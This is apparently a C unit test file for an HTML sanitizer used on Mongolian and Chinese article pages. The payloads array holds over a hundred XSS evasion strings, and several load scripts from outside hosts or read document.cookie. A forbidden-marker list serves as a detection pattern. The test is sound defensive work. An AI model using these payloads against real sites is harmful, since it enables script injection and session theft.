/* test_sanitize.c: the article-body sanitizer against XSS payloads in the style of the
 * OWASP XSS filter evasion cheat sheet (case variants, encodings, broken tags, nesting,
 * attribute breakouts, SVG/MathML, srcdoc, ...): after sanitizing, the output passes the
 * independent verifier (only allowed tags and attributes, no on* handlers, no unsafe URL)
 * and contains none of the script-capable markers; benign Mongolian and Chinese HTML is
 * kept exactly; output is idempotent. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "base/strbuf.h"
#include "content/content_sanitize.h"

#include <ctype.h>
#include <stdbool.h>
#include <stdlib.h>
#include <stdio.h>
#include <string.h>

static const char *const payloads[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=\"http://x/x.js\"></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
    "&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#0;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"jav&Tab;ascript:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<a href=\"javascript:alert(1)\" href=\"http://ok/\">x</a>",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
    "<div style=\"width: expression(alert('XSS'));\">x</div>",
    "<p style=\"x:expr/**/ession(alert(1))\">x</p>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert(1)\">x",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<p title=\"\"><script>alert(1)</script>\">x</p>",
    "<p title='x\" onmouseover=\"alert(1)'>x</p>",
    "<a href=\"http://ok/\" title=\"a&quot; onclick=&quot;alert(1)\">x</a>",
    "<a title=\"x\"onclick=\"alert(1)\">x</a>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src\n=\nx\nonerror\n=\nalert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#106avascript:alert(1)\">x</a>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href=\"&#x26;#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"\xEF\xBC\xAA"
    "avascript:alert(1)\">x</a>",
    "<a href=javascript:alert(1)//http://ok>x</a>",
    "<div><p><a href=\"javascript:alert(1)\"><b onclick=alert(1)>x</b></a></p></div>",
    "<div id=\"x\"><blockquote cite=\"javascript:alert(1)\">q</blockquote></div>",
    "<span class=\"x\" data-x=\"<script>\" lang=\"mn\" dir=\"rtl\">y</span>",
    "<img src=\"http://ok/a.png\" srcset=\"javascript:alert(1)\" alt=\"a\">",
    "<a href=\"http://ok/\" target=\"_blank\" rel=\"opener\" ping=\"http://evil\">x</a>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<body onload=alert(1)>x</body>",
    "<html><head><script>alert(1)</script></head><body>x</body></html>",
    "<style>@import 'http://xss.rocks/xss.css';</style>",
    "\xC0\xBCscript\xC0\xBE"
    "alert(1)\xC0\xBC/script\xC0\xBE",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=\"java\xE2\x80\x8Bscript:alert(1)\">x</a>",
    "<a href=\"mailto:x@y\" onclick=\"alert(1)\">x</a>",
    "<img src=\"mailto:x@y\">",
    "<a href=\"livescript:alert(1)\">x</a>",
    "<a href=\"java script:alert(1)\">x</a>",
    "<p/onclick=alert(1)>x",
    "<div/style=\"x\"/onclick=alert(1)>x",
    "<a href=\"//evil.example/\" onclick=\"x\">x</a>",
};

/* The markers of script-capable constructs that no tag of a sanitized output may contain
 * (looked for case-insensitively in its tags, attribute values blanked out). */
static const char *const forbidden[] = {
    "<script", "<svg",   "<math",  "<iframe",    "<object", "<embed", "<style",
    "<base",   "<meta",  "<link",  "<form",      "<input",  "<body",  " on",
    "style=",  "srcdoc", "srcset", "formaction", "xlink",
};

static char *sanitize(const char *html, size_t n)
{
	struct strbuf out;
	strbuf_init(&out);
	assert_int_equal(content_sanitize(html, n, &out), 0);
	return strbuf_detach(&out, NULL);
}

/* Whether the decoded href/src values of out are free of dangerous schemes, whatever the
 * spacing: every value is lowered and stripped of characters up to U+0020. */
static const char *url_danger(const char *out)
{
	static const char *const schemes[] = {"javascript:", "vbscript:", "data:", "livescript:"};
	for (const char *p = out; (p = strstr(p, "=\"")); p += 2) {
		if (!((p - out >= 4 && !strncmp(p - 4, "href", 4)) ||
		      (p - out >= 3 && !strncmp(p - 3, "src", 3))))
			continue;
		char v[4096];
		size_t k = 0;
		for (const char *q = p + 2; *q && *q != '"' && k + 1 < sizeof v; q++) {
			char c = *q;
			if (!strncmp(q, "&amp;", 5))
				q += 4;
			if ((unsigned char)c > 0x20)
				v[k++] = (char)tolower((unsigned char)c);
		}
		v[k] = '\0';
		for (size_t i = 0; i < sizeof schemes / sizeof *schemes; i++)
			if (strncmp(v, schemes[i], strlen(schemes[i])) == 0)
				return schemes[i];
	}
	return NULL;
}

static void check_safe(const char *in, const char *out)
{
	const char *why = content_sanitize_verify(out, strlen(out));
	if (why)
		fail_msg("input %s\noutput %s\nverifier: %s", in, out, why);
	static char low[65536];
	size_t n = strlen(out);
	assert_true(n < sizeof low);
	bool in_tag = false, in_value = false;
	for (size_t i = 0; i <= n; i++) {
		char c = (char)tolower((unsigned char)out[i]);
		if (!in_tag)
			in_tag = c == '<';
		else if (c == '"')
			in_value = !in_value;
		else if (c == '>' && !in_value)
			in_tag = false;
		low[i] = in_value && c != '"' ? 'x' : c;
	}
	for (size_t k = 0; k < sizeof forbidden / sizeof *forbidden; k++)
		if (strstr(low, forbidden[k]))
			fail_msg("input %s\noutput %s\ncontains %s", in, out, forbidden[k]);
	const char *scheme = url_danger(out);
	if (scheme)
		fail_msg("input %s\noutput %s\nURL with %s", in, out, scheme);
}

static void test_payloads(void **state)
{
	size_t count = sizeof payloads / sizeof *payloads;
	assert_true(count >= 60);
	for (size_t i = 0; i < count; i++) {
		char *out = sanitize(payloads[i], strlen(payloads[i]));
		check_safe(payloads[i], out);
		char *again = sanitize(out, strlen(out));
		assert_string_equal(out, again);
		free(again);
		free(out);
	}
}

/* The NUL inside a tag, in a URL and in text. */
static void test_nul(void **state)
{
	static const char in[] = "<IMG SRC=\"jav\0ascript:alert(1)\"><scr\0ipt>x</scr\0ipt>a\0b";
	char *out = sanitize(in, sizeof in - 1);
	check_safe("NUL", out);
	assert_non_null(strstr(out, "a\xEF\xBF\xBD"
	                            "b"));
	free(out);
}

static void expect(const char *in, const char *want)
{
	char *out = sanitize(in, strlen(in));
	if (strcmp(out, want) != 0)
		fail_msg("input  %s\nwant   %s\ngot    %s", in, want, out);
	check_safe(in, out);
	char *again = sanitize(out, strlen(out));
	assert_string_equal(again, out);
	free(again);
	free(out);
}

static void test_policy(void **state)
{
	expect("<script>alert(1)</script>ok", "ok");
	expect("<p onclick=\"x\" style=\"y\" class=\"note evil\">a</p>", "<p class=\"note\">a</p>");
	expect("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a>x</a>");
	expect("<a href=\"https://kx.nmg.gov.cn/a?b=1&amp;c=2\" title=\"t\">x</a>",
	       "<a href=\"https://kx.nmg.gov.cn/a?b=1&amp;c=2\" title=\"t\">x</a>");
	expect("<a href=\"mailto:kx@nmg.gov.cn\">m</a>", "<a href=\"mailto:kx@nmg.gov.cn\">m</a>");
	expect("<img src=\"/media/ab12\" alt=\"a\" width=\"640\" height=\"x\">",
	       "<img src=\"/media/ab12\" alt=\"a\" width=\"640\">");
	expect("<img alt=\"no src\">", "");
	expect("<img src=\"data:image/png;base64,iVBORw0KGgo=\">", "");
	expect("<p>a<p>b", "<p>a</p><p>b</p>");
	expect("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>");
	expect("<table><tr><td colspan=2 rowspan=x>a<td>b<tr><td>c</table>",
	       "<table><tr><td colspan=\"2\">a</td><td>b</td></tr><tr><td>c</td></tr></table>");
	expect("<b><i>x</b>y</i>", "<b><i>x</i></b>y");
	expect("</p></div>x<br/>y</br>", "x<br>y");
	expect("<!-- c -->a<!---->b<!-->c<![CDATA[d]]>e<?pi?>f<!DOCTYPE html>g", "abcefg");
	expect("1 < 2 && 3 > 2 \"q\" 'a'",
	       "1 &lt; 2 &amp;&amp; 3 &gt; 2 &quot;q&quot; &#39;a&#39;");
	expect("&lt;b&gt; &amp;amp; &nbsp;&#169;&#x1F600;&bogus; &#0; &#x110000;",
	       "&lt;b&gt; &amp;amp; \xC2\xA0\xC2\xA9\xF0\x9F\x98\x80&amp;bogus; \xEF\xBF\xBD "
	       "\xEF\xBF\xBD");
	expect("a\xFF\xC0\xAF"
	       "b",
	       "a\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD"
	       "b");
	expect("<span lang=\"mn-Mong\" dir=\"LTR\" class=\"  mn  vertical \">x</span>",
	       "<span lang=\"mn-Mong\" dir=\"ltr\" class=\"mn vertical\">x</span>");
	expect("<a title=\"a<b>&quot;c\">x</a>", "<a title=\"a&lt;b&gt;&quot;c\">x</a>");
	expect("<div>unclosed <strong>bold", "<div>unclosed <strong>bold</strong></div>");
	expect("<font color=red>kept text</font>", "kept text");
	expect("<p>a</p", "<p>a</p>");
	expect("<a href=\"x\">1<a href=\"y\">2</a>", "<a href=\"x\">1</a><a href=\"y\">2</a>");
	expect("<a href=\"/s/hulunbuir/articles/3\">r</a>",
	       "<a href=\"/s/hulunbuir/articles/3\">r</a>");
	expect("<a href=\"wiki:x\">r</a>", "<a>r</a>");
}

static void test_depth(void **state)
{
	char in[4096] = "", want[4096] = "";
	for (int i = 0; i < SANITIZE_MAX_DEPTH + 10; i++)
		strcat(in, "<span>");
	strcat(in, "x");
	for (int i = 0; i < SANITIZE_MAX_DEPTH; i++)
		strcat(want, "<span>");
	strcat(want, "x");
	for (int i = 0; i < SANITIZE_MAX_DEPTH; i++)
		strcat(want, "</span>");
	expect(in, want);
}

/* Benign bilingual bodies come out byte for byte. */
static void test_benign(void **state)
{
	/* clang-format cannot settle on the width of Mongolian lines */
	// clang-format off
	static const char *const kept[] = {
	    /* Mongolian: FVS, MVS (U+180E) and NNBSP (U+202F) inside words stay as typed */
	    "<h2 lang=\"mn-Mong\">ᠰᠢᠨᠵᠢᠯᠡᠬᠦ ᠤᠬᠠᠭᠠᠨ ᠤ ᠮᠡᠳᠡᠯᠭᠡ</h2>"
	    "<p lang=\"mn-Mong\">ᠮᠠᠯ ᠤᠨ ᠡᠮᠦᠯᠡᠭ ᠢ ᠬᠡᠷᠬᠢᠨ ᠰᠠᠶᠢᠵᠢᠷᠠᠭᠤᠯᠬᠤ ᠪᠤᠢ ᠂"
	    "ᠬᠣᠨᠢ ᠠ᠋ ᠲᠠᠷᠢᠯᠠᠩ᠎ᠠ ᠶᠢ <strong>ᠬᠠᠮᠠᠭᠠᠯᠠᠭᠠᠷᠠᠢ</strong> "
	    "᠃</p>",
	    "<ul class=\"mn\"><li>ᠠᠷᠠᠲᠠᠨ ᠤ ᠡᠷᠡᠭᠦᠯ ᠮᠡᠨᠳᠦ</li>"
	    "<li>ᠮᠠᠯ ᠤᠨ ᠡᠮᠴᠢ ᠶᠢᠨ ᠠᠵᠢᠯ</li></ul>",
	    // clang-format on
	    /* Chinese */
	    "<h3>春季牲畜防疫要点</h3><p>牧民朋友们：<em>春季</em>是羊痘、口蹄疫的高发期，"
	    "请按时接种疫苗，详见<a href=\"/s/nm/articles/12\" title=\"防疫指南\">防疫指南</a>。"
	    "</p>",
	    "<figure><img src=\"/media/0123456789abcdef0123456789abcdef0123456789abcdef0123456789"
	    "abcdef\" alt=\"草原上的羊群\" width=\"800\" "
	    "height=\"600\"><figcaption>图：呼伦贝尔草原"
	    "</figcaption></figure>",
	    "<table><thead><tr><th>旗县</th><th colspan=\"2\">接种数</th></tr></thead><tbody><tr>"
	    "<td>鄂温克族自治旗</td><td>12,000</td><td rowspan=\"1\">95%</td></tr></tbody></table>",
	    "<blockquote lang=\"zh\">科学普及是实现创新发展的重要基础。</blockquote><hr>"
	    "<pre><code>H<sub>2</sub>O · E=mc<sup>2</sup></code></pre>",
	    "<div dir=\"ltr\"><p><b>注意</b>：<i>请勿</i><u>食用</u><s>病死畜</s>。<br>"
	    "ᠠᠩᠬᠠᠷ ᠃</p></div><h4>联系电话</h4><ol><li>0471-1234567</li></ol>",
	};
	for (size_t i = 0; i < sizeof kept / sizeof *kept; i++)
		expect(kept[i], kept[i]);
}

static void test_verifier(void **state)
{
	static const char *const bad[] = {
	    "<script>",
	    "<p onclick=\"x\">a</p>",
	    "<a href=\"javascript:x\">a</a>",
	    "<a href=\"java&amp;#x09;script\">a</a>" /* fine: relative */,
	    "<p>a",
	    "</p>",
	    "<p style=\"x\">a</p>",
	    "<img>",
	    "<br></br>",
	    "a > b",
	    "<a href=\"JaVa Script:x\">a</a>",
	    "&#106;",
	    "<p title='x'>a</p>",
	};
	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
		const char *why = content_sanitize_verify(bad[i], strlen(bad[i]));
		if (i == 3)
			assert_null(why);
		else if (!why)
			fail_msg("verifier accepted %s", bad[i]);
	}
	assert_null(content_sanitize_verify("", 0));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_payloads), cmocka_unit_test(test_nul),
	    cmocka_unit_test(test_policy),   cmocka_unit_test(test_depth),
	    cmocka_unit_test(test_benign),   cmocka_unit_test(test_verifier),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
